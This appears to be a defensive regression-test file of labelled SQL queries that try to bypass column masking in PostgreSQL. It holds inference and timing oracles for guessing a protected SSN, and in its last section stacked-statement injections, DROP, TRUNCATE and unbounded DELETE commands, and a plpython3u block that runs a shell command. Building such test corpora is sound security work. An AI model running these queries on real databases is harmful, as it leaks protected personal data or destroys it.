-- Every known way past classification or masking of PostgreSQL, for ever. Never delete an entry.
--
-- The world: table public.customers (id, name, email, card, ssn, api_key, note), canary '123-45-6789' in ssn and
-- another in api_key; view public.v_customers (id, note), where note is ssn. ssn and api_key are masked columns.
--
-- Format: one comment line `-- label: short name`, the statement, `;` at the end of its last line, a blank line.
--   never-leaks   runs; the canary never appears in what the client receives, in any message
--   masked-whole  runs; the column that could hold the canary is masked as a whole
--   denied        the facts alone say that it is no harmless read, and the demo policy refuses it
--   oracle        would leak no value, but let one be guessed: refused by `portcullis/tests-protected`, unless the
--                 policy that masks the column lets it be tested
--   uniform       runs, and all rows show the same: not even NULL tells of the values
--   clean         runs, and shows every value: nothing in it is made of a protected column

-- never-leaks: base column
SELECT ssn FROM customers;

-- never-leaks: alias
SELECT ssn AS shoe_size FROM customers;

-- never-leaks: cast that does nothing
SELECT ssn::text FROM customers;

-- never-leaks: sub-select
SELECT x.y FROM (SELECT ssn AS y FROM customers) x;

-- never-leaks: common table expression
WITH q AS (SELECT ssn FROM customers) SELECT * FROM q;

-- never-leaks: materialized common table expression
WITH q AS MATERIALIZED (SELECT ssn AS z FROM customers) SELECT z FROM q;

-- never-leaks: a table hidden behind the name of a later CTE
WITH a AS (SELECT ssn AS z FROM customers), customers AS (SELECT 1) SELECT z FROM a;

-- never-leaks: recursive common table expression
WITH RECURSIVE q(z) AS (SELECT ssn FROM customers UNION ALL SELECT z FROM q WHERE false) SELECT z FROM q;

-- never-leaks: lateral
SELECT l.z FROM customers c, LATERAL (SELECT c.ssn AS z) l;

-- oracle: self join using the column
SELECT ssn FROM customers a JOIN customers b USING (ssn);

-- oracle: natural join
SELECT * FROM customers a NATURAL JOIN customers b;

-- oracle: distinct
SELECT DISTINCT ssn FROM customers;

-- never-leaks: TABLE command
TABLE customers;

-- never-leaks: quoted identifier
SELECT "ssn" FROM "customers";

-- never-leaks: unicode identifier
SELECT U&"s\0073n" FROM U&"cust\006Fmers";

-- never-leaks: unicode identifier with another escape
SELECT U&"s!0073n" UESCAPE '!' FROM customers;

-- never-leaks: comments between the words
SELECT/**/ssn/**/FROM/*x*/customers;

-- never-leaks: nested comments
SELECT /*/**/*/ ssn FROM customers -- ;
;

-- never-leaks: column list alias
SELECT b FROM customers AS c(a, n, e, k, b);

-- never-leaks: cursor by name of the schema
SELECT c.ssn FROM public.customers c;

-- never-leaks: three-part name
SELECT public.customers.ssn FROM public.customers;

-- never-leaks: unique violation shows the key
INSERT INTO customers (id, ssn) SELECT id, ssn FROM customers;

-- oracle: cast error shows the value
SELECT ssn::int FROM customers;

-- oracle: date cast error shows the value
SELECT to_date(ssn, 'YYYY') FROM customers;

-- oracle: bytea of the value
SELECT ssn::bytea FROM customers;

-- masked-whole: view that renames
SELECT note FROM v_customers;

-- masked-whole: whole row
SELECT c FROM customers c;

-- masked-whole: whole row as text
SELECT c::text FROM customers c;

-- masked-whole: row constructor
SELECT ROW(c.*) FROM customers c;

-- masked-whole: lossy cast
SELECT ssn::varchar FROM customers;

-- masked-whole: concatenation
SELECT ssn || '' FROM customers;

-- masked-whole: coalesce
SELECT coalesce(ssn, '') FROM customers;

-- masked-whole: case
SELECT CASE WHEN true THEN ssn END FROM customers;

-- masked-whole: union
SELECT ssn FROM customers UNION ALL SELECT 'x';

-- oracle: except
SELECT ssn FROM customers EXCEPT SELECT 'x';

-- masked-whole: maximum
SELECT max(ssn) FROM customers;

-- masked-whole: window function
SELECT first_value(ssn) OVER () FROM customers;

-- masked-whole: named window
SELECT lag(ssn) OVER w FROM customers WINDOW w AS (ORDER BY id);

-- masked-whole: string_agg
SELECT string_agg(ssn, ',') FROM customers;

-- masked-whole: array_agg
SELECT array_agg(ssn) FROM customers;

-- masked-whole: row_to_json
SELECT row_to_json(c) FROM customers c;

-- masked-whole: function written like a column
SELECT c.row_to_json FROM customers c;

-- masked-whole: function written like a field
SELECT (c).to_jsonb FROM customers c;

-- masked-whole: output function written like a column
SELECT c.record_out FROM customers c;

-- masked-whole: concatenation written like a column
SELECT c.concat FROM customers c;

-- masked-whole: function on a function written like a column
SELECT upper(c.quote_literal) FROM customers c;

-- oracle: jsonb path
SELECT jsonb_path_query(to_jsonb(c), '$.ssn') FROM customers c;

-- oracle: json keys in a record set
SELECT value FROM customers c, json_each_text(row_to_json(c));

-- masked-whole: json object
SELECT json_build_object('k', ssn) FROM customers;

-- masked-whole: SQL/JSON constructor
SELECT json_object('k': ssn) FROM customers;

-- masked-whole: xml element
SELECT xmlelement(name x, ssn) FROM customers;

-- masked-whole: xml forest
SELECT xmlforest(ssn) FROM customers;

-- masked-whole: values
VALUES ((SELECT ssn FROM customers LIMIT 1));

-- masked-whole: scalar sub-select
SELECT (SELECT ssn FROM customers LIMIT 1);

-- masked-whole: array sub-select
SELECT ARRAY(SELECT ssn FROM customers);

-- masked-whole: pieces in two cells
SELECT substr(ssn, 1, 6), substr(ssn, 7) FROM customers;

-- oracle: one character per row
SELECT regexp_split_to_table(ssn, '') FROM customers;

-- masked-whole: reversed
SELECT reverse(ssn) FROM customers;

-- oracle: hex
SELECT encode(ssn::bytea, 'hex') FROM customers;

-- oracle: base64
SELECT encode(convert_to(ssn, 'UTF8'), 'base64') FROM customers;

-- masked-whole: translated digits
SELECT translate(ssn, '0123456789', 'abcdefghij') FROM customers;

-- masked-whole: code points
SELECT ascii(substr(ssn, 1)) FROM customers;

-- masked-whole: digest for a dictionary attack
SELECT md5(ssn) FROM customers;

-- masked-whole: full-text vector
SELECT to_tsvector('simple', ssn) FROM customers;

-- oracle: number
SELECT replace(ssn, '-', '')::bigint FROM customers;

-- oracle: arithmetic on the number
SELECT replace(ssn, '-', '')::bigint + 1 FROM customers;

-- oracle: format
SELECT format('%s', ssn) FROM customers;

-- masked-whole: returning an expression
UPDATE customers SET name = name WHERE id = 1 RETURNING ssn || '';

-- masked-whole: old value in returning
DELETE FROM customers WHERE id = 0 RETURNING upper(ssn);

-- masked-whole: most common values
SELECT most_common_vals FROM pg_stats WHERE tablename = 'customers';

-- masked-whole: other sessions' statements
SELECT query FROM pg_stat_activity;

-- masked-whole: copy of the table
COPY customers TO STDOUT;

-- masked-whole: copy of one column
COPY customers (ssn) TO STDOUT;

-- masked-whole: copy of a query
COPY (SELECT substr(ssn, 1) FROM customers) TO STDOUT;

-- masked-whole: copy with its own delimiter
COPY customers TO STDOUT WITH (FORMAT csv, DELIMITER '-');

-- masked-whole: copy in binary
COPY customers TO STDOUT WITH (FORMAT binary);

-- oracle: plan with constants
EXPLAIN VERBOSE SELECT * FROM customers WHERE ssn > '1';

-- masked-whole: field of a row by position of an alias
SELECT (x).z FROM (SELECT ROW(ssn) AS r, ssn AS z FROM customers) x;

-- oracle: unnested array
SELECT unnest(array_agg(ssn)) FROM customers;

-- masked-whole: generated by order of a set
SELECT mode() WITHIN GROUP (ORDER BY ssn) FROM customers;

-- oracle: nullif
SELECT nullif(ssn, 'x') FROM customers;

-- masked-whole: greatest
SELECT greatest(ssn, '') FROM customers;

-- oracle: user's own operator
SELECT ssn OPERATOR(public.||) 'x' FROM customers;

-- oracle: XMLTABLE
SELECT x.* FROM customers c, XMLTABLE('/r' PASSING xmlelement(name r, c.ssn) COLUMNS v text PATH '.') x;

-- masked-whole: table as XML
SELECT table_to_xml('customers', true, false, '');

-- oracle: pattern in a predicate
SELECT count(*) FROM customers WHERE ssn LIKE '123%';

-- oracle: order by a masked column
SELECT id FROM customers ORDER BY ssn;

-- oracle: group by a masked column
SELECT count(*) FROM customers GROUP BY left(ssn, 1);

-- oracle: join on a masked column
SELECT a.id FROM customers a JOIN customers b ON a.ssn > b.ssn;

-- oracle: comparison as a boolean
SELECT id FROM customers WHERE ssn BETWEEN '1' AND '2';

-- oracle: having
SELECT id FROM customers GROUP BY id HAVING max(ssn) > '1';

-- oracle: number of rows of an update
UPDATE customers SET name = name WHERE ssn LIKE '1%' AND id = 1;

-- oracle: exists
SELECT 1 WHERE EXISTS (SELECT 1 FROM customers WHERE ssn ~ '^1');

-- oracle: time
SELECT pg_sleep(1) FROM customers WHERE ssn LIKE '1%';

-- oracle: division by zero
SELECT id FROM customers WHERE 1 / (ascii(ssn) - 49) > 0;

-- never-leaks: join using another column
SELECT a.ssn FROM customers a JOIN customers b USING (id);

-- never-leaks: returning
UPDATE customers SET name = name WHERE id = 1 RETURNING ssn;

-- never-leaks: cursor
BEGIN; DECLARE c CURSOR FOR SELECT ssn FROM customers; FETCH ALL FROM c; COMMIT;

-- never-leaks: cursor over an expression
BEGIN; DECLARE c CURSOR FOR SELECT reverse(ssn) FROM customers; FETCH 3 FROM c; COMMIT;

-- never-leaks: prepared statement
PREPARE p AS SELECT ssn FROM customers; EXECUTE p;

-- never-leaks: prepared expression
PREPARE p AS SELECT substr(ssn, 1, 6) FROM customers; EXECUTE p;

-- never-leaks: a name that only LATERAL would see
SELECT (SELECT s.v FROM (VALUES ('z')) c(ssn), (SELECT c.ssn AS v) s) FROM customers c;

-- never-leaks: a name between a sub-select and a table
SELECT (SELECT max FROM (SELECT max(ssn) FROM customers) q) FROM (VALUES (1)) t(max);

-- never-leaks: order of the columns of a star
SELECT * FROM (SELECT *, ssn || '' AS more FROM customers) x;

-- masked-whole: expression over a view
SELECT upper(note) FROM v_customers;

-- masked-whole: whole row of a view
SELECT v FROM v_customers v;

-- masked-whole: JSON of a view
SELECT to_jsonb(v) FROM v_customers v;

-- masked-whole: view behind a CTE and a union
WITH q AS (SELECT note AS z FROM v_customers UNION ALL SELECT 'x') SELECT z FROM q;

-- masked-whole: copy of a view's column
COPY (SELECT note FROM v_customers) TO STDOUT;

-- masked-whole: cast that counts as text
SELECT CAST(ssn AS character varying(11)) FROM customers;

-- masked-whole: array sub-script
SELECT (ARRAY[ssn])[1] FROM customers;

-- masked-whole: fields of a row
SELECT (c).* FROM customers c;

-- masked-whole: one field of a row
SELECT (c).ssn || '' FROM customers c;

-- masked-whole: aggregate of JSON
SELECT json_agg(c) FROM customers c;

-- masked-whole: object of an aggregate
SELECT jsonb_object_agg(id, ssn) FROM customers;

-- oracle: first match of a path
SELECT jsonb_path_query_first(to_jsonb(c), '$.ssn') FROM customers c;

-- masked-whole: recursive query that builds it up
WITH RECURSIVE q(n, z) AS (SELECT 1, '' UNION ALL SELECT n + 1, z || (SELECT min(ssn) FROM customers) FROM q WHERE n < 3)
SELECT n, z FROM q;

-- masked-whole: default of lag
SELECT lag(name, 1, ssn) OVER (ORDER BY id) FROM customers;

-- masked-whole: similarity to a constant
SELECT ssn LIKE '123%' FROM customers;

-- masked-whole: count of what is not null
SELECT count(ssn) FROM customers;

-- masked-whole: distinct count
SELECT count(DISTINCT ssn) FROM customers;

-- masked-whole: values of two relations
SELECT c.ssn || o.status FROM customers c JOIN orders o ON o.customer = c.id;

-- oracle: order by the place of the column
SELECT id, ssn FROM customers ORDER BY 2;

-- oracle: order by an alias
SELECT id, reverse(ssn) AS x FROM customers ORDER BY x;

-- oracle: order by an alias that hides a column
SELECT md5(ssn) AS id, name FROM customers ORDER BY id;

-- oracle: group by the place of the column
SELECT left(ssn, 1), count(*) FROM customers GROUP BY 1;

-- oracle: grouping sets
SELECT count(*) FROM customers GROUP BY GROUPING SETS ((left(ssn, 1)), ());

-- oracle: distinct on
SELECT DISTINCT ON (ssn) id FROM customers;

-- oracle: join in a sub-select
SELECT count(*) FROM customers a WHERE id IN (SELECT b.id FROM customers b JOIN (VALUES ('123-45-6789')) v(x) ON v.x = b.ssn);

-- oracle: one value in all
SELECT 1 WHERE '123-45-6789' IN (SELECT ssn FROM customers);

-- oracle: any of them
SELECT 1 WHERE '123-45-6789' = ANY (SELECT ssn FROM customers);

-- oracle: intersection with a guess
SELECT count(*) FROM (SELECT ssn FROM customers INTERSECT SELECT '123-45-6789') x;

-- oracle: union that drops a guess
SELECT count(*) FROM (SELECT ssn FROM customers UNION SELECT '123-45-6789') x;

-- oracle: case
SELECT CASE WHEN ssn LIKE '123%' THEN 1 ELSE 2 END FROM customers;

-- oracle: case over a value
SELECT CASE ssn WHEN '123-45-6789' THEN pg_sleep(0) END FROM customers;

-- oracle: filter of an aggregate
SELECT count(*) FILTER (WHERE ssn LIKE '123%') FROM customers;

-- oracle: order of an aggregate
SELECT array_agg(id ORDER BY ssn) FROM customers;

-- oracle: order of a window
SELECT id, row_number() OVER (ORDER BY ssn) FROM customers;

-- oracle: order of a named window
SELECT id, rank() OVER w FROM customers WINDOW w AS (ORDER BY ssn);

-- oracle: partition of a window
SELECT id, count(*) OVER (PARTITION BY left(ssn, 1)) FROM customers;

-- oracle: frame of a window
SELECT id, count(*) OVER (ORDER BY id ROWS (SELECT ascii(ssn) FROM customers WHERE id = 1) PRECEDING) FROM customers;

-- oracle: limit
SELECT id FROM customers LIMIT (SELECT ascii(ssn) FROM customers WHERE id = 1);

-- oracle: offset
SELECT id FROM customers OFFSET (SELECT ascii(ssn) FROM customers WHERE id = 1);

-- oracle: rows of a function
SELECT count(*) FROM customers c, generate_series(1, ascii(c.ssn));

-- oracle: rows of a function in the list
SELECT generate_series(1, ascii(ssn)) FROM customers;

-- oracle: condition on a view
SELECT id FROM v_customers WHERE note LIKE '123%';

-- oracle: order of a view
SELECT id FROM v_customers ORDER BY note;

-- oracle: condition on a new name
SELECT 1 FROM (SELECT ssn AS harmless FROM customers) x WHERE harmless LIKE '123%';

-- oracle: condition on the name of a CTE
WITH q(a, b) AS (SELECT id, ssn FROM customers) SELECT a FROM q WHERE b LIKE '123%';

-- oracle: condition on the whole row
SELECT id FROM customers c WHERE c::text LIKE '%123-45-6789%';

-- oracle: condition on JSON
SELECT id FROM customers c WHERE row_to_json(c) ->> 'ssn' = '123-45-6789';

-- oracle: condition on a function of the row
SELECT id FROM customers c WHERE c.to_jsonb::text LIKE '%123-45-6789%';

-- oracle: row constructor in a condition
SELECT id FROM customers WHERE (id, ssn) > (1, '123');

-- oracle: condition in a CTE that nobody reads
WITH q AS (SELECT pg_sleep(0) FROM customers WHERE ssn LIKE '123%') SELECT 1;

-- oracle: condition of a copy
COPY (SELECT id FROM customers WHERE ssn LIKE '123%') TO STDOUT;

-- oracle: condition of a cursor
BEGIN; DECLARE c CURSOR FOR SELECT id FROM customers WHERE ssn LIKE '123%'; FETCH 1 FROM c; COMMIT;

-- oracle: condition of a prepared statement
PREPARE p AS SELECT id FROM customers WHERE ssn = $1; EXECUTE p('123-45-6789');

-- oracle: rows that are in the way
UPDATE customers SET name = name FROM orders o WHERE o.customer = customers.id AND customers.ssn LIKE '123%' AND customers.id = 1;

-- oracle: a CTE of the table's name
WITH customers AS (SELECT '' AS ssn, 1 AS id) UPDATE customers SET name = name WHERE id = 1 AND ssn LIKE '1%';

-- oracle: rows that are deleted elsewhere
DELETE FROM stale_carts USING customers c WHERE stale_carts.id = -1 AND c.ssn LIKE '123%';

-- oracle: conflict on the column
INSERT INTO customers (id, name, email, ssn) SELECT 1, 'x', 'y', '123-45-6789' ON CONFLICT (ssn) DO NOTHING;

-- oracle: statistics in a condition
SELECT 1 FROM pg_stats WHERE tablename = 'customers' AND most_common_vals::text LIKE '%123-45-6789%';

-- oracle: statistics under other names
SELECT 1 FROM pg_stats AS s(a, b, c, d, e, f, g, m), customers WHERE m::text LIKE '%123-45-6789%';

-- oracle: columns that double with each step
WITH q0 AS (SELECT * FROM customers), q1 AS (SELECT *, * FROM q0), q2 AS (SELECT *, * FROM q1), q3 AS (SELECT *, * FROM
q2), q4 AS (SELECT *, * FROM q3), q5 AS (SELECT *, * FROM q4), q6 AS (SELECT *, * FROM q5), q7 AS (SELECT *, * FROM q6),
q8 AS (SELECT *, * FROM q7), q9 AS (SELECT *, * FROM q8), q10 AS (SELECT *, * FROM q9), q11 AS (SELECT *, * FROM q10),
q12 AS (SELECT *, * FROM q11), q13 AS (SELECT *, * FROM q12), q14 AS (SELECT *, * FROM q13), q15 AS (SELECT *, * FROM
q14), q16 AS (SELECT *, * FROM q15), q17 AS (SELECT *, * FROM q16), q18 AS (SELECT *, * FROM q17), q19 AS (SELECT *, *
FROM q18), q20 AS (SELECT *, * FROM q19), q21 AS (SELECT *, * FROM q20), q22 AS (SELECT *, * FROM q21), q23 AS (SELECT
*, * FROM q22), q24 AS (SELECT *, * FROM q23), q25 AS (SELECT *, * FROM q24), q26 AS (SELECT *, * FROM q25), q27 AS
(SELECT *, * FROM q26), q28 AS (SELECT *, * FROM q27), q29 AS (SELECT *, * FROM q28), q30 AS (SELECT *, * FROM q29), q31
AS (SELECT *, * FROM q30), q32 AS (SELECT *, * FROM q31), q33 AS (SELECT *, * FROM q32), q34 AS (SELECT *, * FROM q33),
q35 AS (SELECT *, * FROM q34), q36 AS (SELECT *, * FROM q35), q37 AS (SELECT *, * FROM q36), q38 AS (SELECT *, * FROM
q37), q39 AS (SELECT *, * FROM q38), q40 AS (SELECT *, * FROM q39) SELECT 1 FROM q40;

-- oracle: natural join with a column that a sub-select names
SELECT c.id FROM customers c NATURAL JOIN (SELECT (SELECT '123-45-6789' AS ssn)) s;

-- oracle: group by what a sub-select names
SELECT 1 AS x FROM (SELECT (SELECT d.ssn AS x FROM customers d WHERE d.id = c.id) FROM customers c) s GROUP BY x;

-- oracle: comparison of nullif
SELECT nullif(ssn, '123-45-6789') FROM customers;

-- oracle: conflict on any unique index
INSERT INTO customers (id, name, email, ssn) SELECT 1, 'x', 'y', '123-45-6789' ON CONFLICT DO NOTHING;

-- oracle: conflict on a constraint
INSERT INTO customers (id, name, email, ssn) SELECT 1, 'x', 'y', '123-45-6789' ON CONFLICT ON CONSTRAINT customers_ssn_key DO NOTHING;

-- uniform: NULL where a pattern does not match
SELECT substring(ssn from '^1') FROM customers;

-- uniform: NULL unless a comparison holds
SELECT (ssn LIKE '123%') OR NULL FROM customers;

-- oracle: NULL as an array
SELECT regexp_match(ssn, '^123') FROM customers;

-- uniform: NULL in a copy
COPY (SELECT substring(ssn from '^1') FROM customers) TO STDOUT;

-- oracle: division that one value makes fail
SELECT 1 / (ssn LIKE '9%')::int FROM customers WHERE id = 1;

-- oracle: cast that one digit makes fail
SELECT replace(left(ssn, 1), '1', 'x')::int FROM customers WHERE id = 1;

-- oracle: pattern that one digit breaks
SELECT 'x' ~ replace(ssn, '1', '(') FROM customers WHERE id = 1;

-- oracle: what is only looked at where a comparison leaves it open
SELECT (ssn LIKE '1%') OR (SELECT 1 / (count(*) - count(*)) FROM orders) > 0 FROM customers WHERE id = 1;

-- oracle: default that only NULL asks for
SELECT coalesce(substring(ssn from '^9'), (1 / (id - id))::text) FROM customers WHERE id = 1;

-- oracle: time that a value takes
SELECT pg_sleep(length(substring(ssn from '^9'))) FROM customers WHERE id = 1;

-- oracle: size that a value takes
EXPLAIN (ANALYZE, BUFFERS) SELECT id, repeat(substring(ssn from '^9'), 10000000) AS x FROM customers ORDER BY id;

-- oracle: failure in what is returned
UPDATE customers SET name = name WHERE id = 1 RETURNING 1 / (ssn LIKE '9%')::int;

-- oracle: SQL/JSON that fails
SELECT json_build_object(substring(ssn from '^9'), 1) FROM customers WHERE id = 1;

-- oracle: share of a sample
SELECT id FROM customers TABLESAMPLE system((SELECT ascii(ssn) FROM customers WHERE id = 1));

-- oracle: path in an operator
SELECT id FROM customers c WHERE to_jsonb(c) @? '$.ssn ? (@ starts with "123")';

-- oracle: JSON_TABLE
SELECT j.z FROM customers c, JSON_TABLE(to_jsonb(c), '$' COLUMNS (z text PATH '$.ssn')) j;

-- oracle: condition of LATERAL
SELECT id FROM customers c, LATERAL (SELECT 1 WHERE c.ssn LIKE '1%') l;

-- oracle: overlap of arrays
SELECT id FROM customers WHERE ARRAY[ssn] && ARRAY['123-45-6789'::bpchar];

-- oracle: rows in a list
SELECT id FROM customers WHERE ROW(ssn, id) IN (('123-45-6789', 1));

-- oracle: order by a case
SELECT id FROM customers ORDER BY CASE WHEN ssn LIKE '1%' THEN 1 ELSE 2 END;

-- oracle: order by an operator
SELECT id FROM customers ORDER BY (ssn = '1') USING <;

-- oracle: grouping sets of columns
SELECT id FROM customers GROUP BY GROUPING SETS ((id), (id, ssn));

-- oracle: whole row that is compared
SELECT id FROM customers c WHERE c IS DISTINCT FROM NULL;

-- oracle: conflict that looks at the row in the way
INSERT INTO customers AS t (id, name, email) VALUES (1, 'x', 'y') ON CONFLICT (id) DO UPDATE SET note = 'x' WHERE t.ssn LIKE '1%';

-- uniform: position in all of them
SELECT array_position(ARRAY['a', 'b'], name) IS NULL, ssn = '123-45-6789', ssn IS NULL FROM customers;

-- uniform: default of lag, and what is not there
SELECT lag(name, 1, ssn) OVER (ORDER BY id DESC), nullif(id, id) || ssn FROM customers;

-- masked-whole: whole row returned
UPDATE customers SET name = name WHERE id = 1 RETURNING customers;

-- masked-whole: sub-select returned
UPDATE customers SET name = name WHERE id = 1 RETURNING (SELECT ssn FROM customers WHERE id = 2);

-- masked-whole: collation of its own
SELECT ssn COLLATE "C" FROM customers;

-- masked-whole: binary cursor
BEGIN; DECLARE c BINARY CURSOR FOR SELECT upper(ssn), ssn FROM customers; FETCH 2 FROM c; COMMIT;

-- masked-whole: type and size
SELECT pg_typeof(ssn), pg_column_size(ssn), length(ssn) FROM customers;

-- never-leaks: column written into another
UPDATE customers SET note = ssn WHERE id = 1;

-- never-leaks: columns written from a sub-select
UPDATE customers SET (note, phone) = (SELECT ssn, ssn FROM customers WHERE id = 2) WHERE id = 1;

-- never-leaks: column written by a merge
MERGE INTO stale_carts s USING customers c ON c.id = 1 AND s.id = 1 WHEN MATCHED THEN UPDATE SET customer = ascii(c.ssn);

-- never-leaks: column written by a conflict
INSERT INTO customers AS t (id, name, email) VALUES (1, 'x', 'y') ON CONFLICT (id) DO UPDATE SET note = t.ssn;

-- clean: failures of other columns
SELECT 1 / id, (id - 1)::numeric::text, left(name, 3) FROM customers WHERE id < 9;

-- clean: other columns
SELECT id, name FROM customers WHERE id = 1;

-- clean: expressions over other columns
SELECT upper(name), id + 1, name || '', coalesce(name, '') FROM customers WHERE id <= 3 ORDER BY name;

-- clean: aggregates of other columns
SELECT count(*), min(id), max(name) FROM customers;

-- clean: groups of another column
SELECT left(name, 1) AS initial, count(*) FROM customers GROUP BY initial ORDER BY 1;

-- clean: another column of a view over it
SELECT id, id * 2 FROM v_customers WHERE id < 4 ORDER BY id;

-- clean: number of rows of a view over it
SELECT count(*) FROM v_customers WHERE id > 3;

-- clean: beside the column in a sub-select
SELECT x.n, x.id + 1 FROM (SELECT upper(name) AS n, id, ssn FROM customers) x WHERE x.id = 1;

-- clean: beside the column in a CTE
WITH q AS (SELECT id, ssn, upper(name) AS n FROM customers) SELECT n, id FROM q WHERE id = 1;

-- clean: join
SELECT c.id, o.total + 1, upper(o.status) FROM customers c JOIN orders o ON o.customer = c.id WHERE c.id = 1;

-- clean: union of other columns
SELECT upper(name) FROM customers WHERE id = 1 UNION SELECT upper(status) FROM orders;

-- clean: case over other columns
SELECT CASE WHEN id = 1 THEN 'first' ELSE upper(name) END FROM customers WHERE id < 3;

-- clean: window over other columns
SELECT id, row_number() OVER (PARTITION BY left(name, 1) ORDER BY id) FROM customers WHERE id < 9;

-- clean: existence
SELECT EXISTS (SELECT ssn FROM customers WHERE id = 1);

-- clean: whole rows of another relation
SELECT row_to_json(o) -> 'status', (SELECT max(id) FROM customers) FROM orders o WHERE o.id = 1;

-- clean: recursion beside it
WITH RECURSIVE q(n) AS (SELECT min(id) FROM customers UNION ALL SELECT n + 1 FROM q WHERE n < 3) SELECT n FROM q;

-- clean: copy of other columns
COPY customers (id, name) TO STDOUT;

-- clean: copy of a query over other columns
COPY (SELECT id, upper(name) FROM customers WHERE id = 1) TO STDOUT;

-- oracle: filled into another row
SELECT jsonb_populate_record(null::orders, to_jsonb(c)) FROM customers c WHERE id = 1;

-- oracle: correlated comparison
SELECT id, (SELECT count(*) FROM orders o WHERE o.status > c.ssn) FROM customers c;

-- oracle: above all of them
SELECT id FROM orders WHERE status || '' > ALL (SELECT ssn FROM customers);

-- oracle: distribution over a window
SELECT id, cume_dist() OVER (ORDER BY ssn) FROM customers;

-- oracle: range of a window
SELECT id, count(*) OVER (ORDER BY id RANGE BETWEEN ascii(ssn) PRECEDING AND CURRENT ROW) FROM customers;

-- oracle: window that nobody uses
SELECT 1 FROM customers WINDOW w AS (PARTITION BY ssn);

-- oracle: distinct rows with a sub-select
SELECT DISTINCT id, (SELECT d.ssn FROM customers d WHERE d.id = c.id) FROM customers c;

-- oracle: having an aggregate of comparisons
SELECT 1 FROM customers HAVING bool_or(ssn LIKE '1%');

-- oracle: group by whether it is there
SELECT count(*) FROM customers GROUP BY ssn IS NULL;

-- oracle: order of the TABLE command
TABLE customers ORDER BY ssn;

-- oracle: functions in FROM, side by side
SELECT * FROM ROWS FROM (generate_series(1, 2), unnest(ARRAY(SELECT ssn FROM customers LIMIT 2))) z;

-- oracle: whether it can be read as a number
SELECT pg_input_is_valid(ssn, 'int') FROM customers;

-- oracle: headline of a text
SELECT ts_headline(ssn, to_tsquery('123')) FROM customers WHERE id = 1;

-- oracle: statistics as JSON in a condition
SELECT count(*) FROM pg_stats s, customers c WHERE to_jsonb(s) ->> 'most_common_vals' LIKE '%123-45-6789%';

-- masked-whole: values beside a row
SELECT x FROM customers, LATERAL (VALUES (ssn), (name)) v(x) WHERE id = 1;

-- masked-whole: percentile
SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY ssn) FROM customers;

-- masked-whole: rank of a guess
SELECT rank('123') WITHIN GROUP (ORDER BY ssn) FROM customers;

-- masked-whole: statistics as a row
SELECT s FROM pg_stats s WHERE tablename = 'customers';

-- uniform: comparisons of every kind
SELECT ssn < ANY (ARRAY['2']), ssn IN ('1'), (ssn, id) = ('1', 2), ssn IS DISTINCT FROM '1', ssn BETWEEN '1' AND '2' FROM customers;

-- denied: second statement
SELECT 1; DROP TABLE customers;

-- denied: statement behind inline data
COPY customers FROM STDIN; DROP TABLE customers;

-- denied: drop database
DROP DATABASE orders;

-- denied: drop database in odd letters
dRoP/**/DaTaBaSe "orders";

-- denied: drop after a line comment that ends at carriage return
SELECT 1 -- x
; DROP TABLE customers;

-- denied: keyword split by nested comment
DROP/*/**/*/TABLE/**/customers;

-- denied: drop if exists cascade
DROP TABLE IF EXISTS nothing, customers CASCADE;

-- denied: drop schema
DROP SCHEMA public CASCADE;

-- denied: drop owned
DROP OWNED BY CURRENT_USER;

-- denied: drop view
DROP VIEW v_customers;

-- denied: drop column
ALTER TABLE customers DROP COLUMN ssn;

-- denied: column rewritten
ALTER TABLE customers ALTER COLUMN ssn TYPE text USING '';

-- denied: truncate
TRUNCATE customers;

-- denied: truncate cascade
TRUNCATE TABLE ONLY customers RESTART IDENTITY CASCADE;

-- denied: delete without where
DELETE FROM customers;

-- denied: delete where true
DELETE FROM customers WHERE true;

-- denied: delete where 1=1
DELETE FROM customers WHERE 1=1;

-- denied: delete where now is past
DELETE FROM customers WHERE now() > '2000-01-01';

-- denied: delete with an arm that is true
DELETE FROM customers WHERE id = 1 OR true;

-- denied: delete with an arm that is constant
DELETE FROM customers WHERE (id = 1) OR (2 > 1 AND 'a' = 'a');

-- denied: delete where a column is itself
DELETE FROM customers WHERE id = id;

-- denied: delete where the column is another table's
DELETE FROM customers USING (SELECT 1 AS one) o WHERE o.one = 1;

-- denied: delete where only the sub-select restricts
DELETE FROM customers WHERE EXISTS (SELECT 1 FROM v_customers WHERE id = 1);

-- denied: update where not false
UPDATE customers SET note = '' WHERE NOT false;

-- denied: update where sub-select
UPDATE customers SET note = '' WHERE (SELECT true);

-- denied: update without where
UPDATE customers SET name = 'x';

-- denied: merge that deletes all
MERGE INTO customers USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE;

-- denied: data-modifying CTE
WITH d AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM d;

-- denied: data-modifying CTE in an INSERT
WITH d AS (DELETE FROM customers RETURNING id) INSERT INTO audit SELECT id FROM d;

-- denied: explain analyze delete
EXPLAIN ANALYZE DELETE FROM customers;

-- denied: explain with options
EXPLAIN (COSTS off, ANALYZE) DELETE FROM customers;

-- denied: explain analyze twice
EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM customers;

-- denied: prepared delete
PREPARE x AS DELETE FROM customers;

-- denied: prepared and executed
PREPARE y AS DELETE FROM customers; EXECUTE y;

-- denied: copy of a delete
COPY (DELETE FROM customers RETURNING ssn) TO STDOUT;

-- denied: table from a select
CREATE TABLE loot AS SELECT * FROM customers;

-- denied: temporary table from a select
CREATE TEMP TABLE tt AS SELECT ssn AS z FROM customers;

-- denied: select into
SELECT ssn INTO loot FROM customers;

-- denied: view over the table
CREATE VIEW public.harmless AS SELECT ssn AS size FROM customers;

-- denied: temporary view that shadows
CREATE TEMP VIEW customers AS SELECT 1;

-- denied: materialized view
CREATE MATERIALIZED VIEW m AS SELECT ssn FROM customers;

-- denied: renamed column
ALTER TABLE customers RENAME COLUMN ssn TO shoe_size;

-- denied: renamed table
ALTER TABLE customers RENAME TO c2;

-- denied: rule
CREATE RULE r AS ON SELECT TO v_customers DO INSTEAD SELECT id, api_key AS note FROM customers;

-- denied: trigger
CREATE TRIGGER t AFTER INSERT ON customers EXECUTE FUNCTION f();

-- denied: event trigger
CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION f();

-- denied: do block
DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$;

-- denied: do block with a tag
DO $x$ BEGIN RAISE NOTICE '%', (SELECT ssn FROM customers LIMIT 1); END $x$ LANGUAGE plpgsql;

-- denied: do block in an untrusted language
DO LANGUAGE plpython3u $$ import os; os.system('id') $$;

-- denied: SQL function
CREATE FUNCTION f() RETURNS SETOF text LANGUAGE sql AS 'DELETE FROM customers RETURNING ssn';
